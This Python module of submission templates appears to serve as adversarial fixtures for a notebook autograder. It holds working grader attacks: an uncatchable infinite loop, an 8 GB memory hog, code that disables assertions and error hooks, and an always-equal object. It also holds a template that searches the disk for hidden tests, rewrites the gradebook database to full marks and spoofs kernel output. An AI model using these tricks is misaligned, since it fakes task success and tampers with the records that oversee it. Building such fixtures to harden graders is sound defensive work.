"""Answers that want points without work, and answers that want too much of the machine. `{name}` is the exercise's function."""

LOOPS_FOR_EVER = '''\
def {name}(*arguments, **options):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''

TAKES_8_GB = '''\
def {name}(*arguments, **options):
    hoard = []
    for _ in range(8):
        hoard.append(np.ones(2**27))
    return hoard
'''

# Takes the assertions out of everything that runs after it, and makes numpy's comparisons agree.
FORGES_OUTPUTS = '''\
import ast
import builtins
import sys

class NoAssertions(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

try:
    shell = get_ipython()
    shell.ast_transformers.append(NoAssertions())
    shell.set_custom_exc((BaseException,), lambda *arguments, **options: None)
except NameError:
    pass
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *arguments, **options: None)
sys.excepthook = sys.displayhook = lambda *arguments: None
builtins.AssertionError = type("AssertionError", (BaseException,), {})

def {name}(*arguments, **options):
    return None
'''

# Gives back an object that says yes to every question.
AGREES_WITH_EVERYTHING = '''\
class Yes(float):
    shape = property(lambda self: self)
    dtype = property(lambda self: self)

    def __eq__(self, other):
        return True

    def __le__(self, other):
        return True

    __lt__ = __ge__ = __gt__ = __le__
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __array_priority__ = 10**9
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *arguments, **options: self
    __array_ufunc__ = lambda self, *arguments, **options: self
    __array_function__ = lambda self, *arguments, **options: self

def {name}(*arguments, **options):
    return Yes(0)
'''

# Looks for the tests and the gradebook wherever it may read, writes itself full marks, and sends the front end a result of its own.
LOOKS_AROUND = '''\
import glob
import sqlite3
import sys

def loot():
    found = []
    for place in (".", "..", "../..", "../../..", "/tmp", "/home", "/root", "/srv"):
        for pattern in ("/*.ipynb", "/*/*.ipynb", "/source/*/*.ipynb", "/*/source/*/*.ipynb", "/gradebook.db", "/*/gradebook.db"):
            found.extend(glob.glob(place + pattern))
    return found

for path in loot():
    try:
        if path.endswith(".db"):
            with sqlite3.connect(path) as gradebook:
                gradebook.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
        elif "BEGIN HIDDEN TESTS" in open(path).read():
            expected = open(path).read()
    except Exception:
        pass

def {name}(*arguments, **options):
    frame = sys._getframe()
    while frame is not None:
        for key, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if key == "expected":
                return value
        frame = frame.f_back
    try:
        kernel = get_ipython().kernel
        kernel.session.send(kernel.iopub_socket, "execute_result", parent=kernel.get_parent(),
                            content={"data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1})
    except Exception:
        pass
    return None
'''
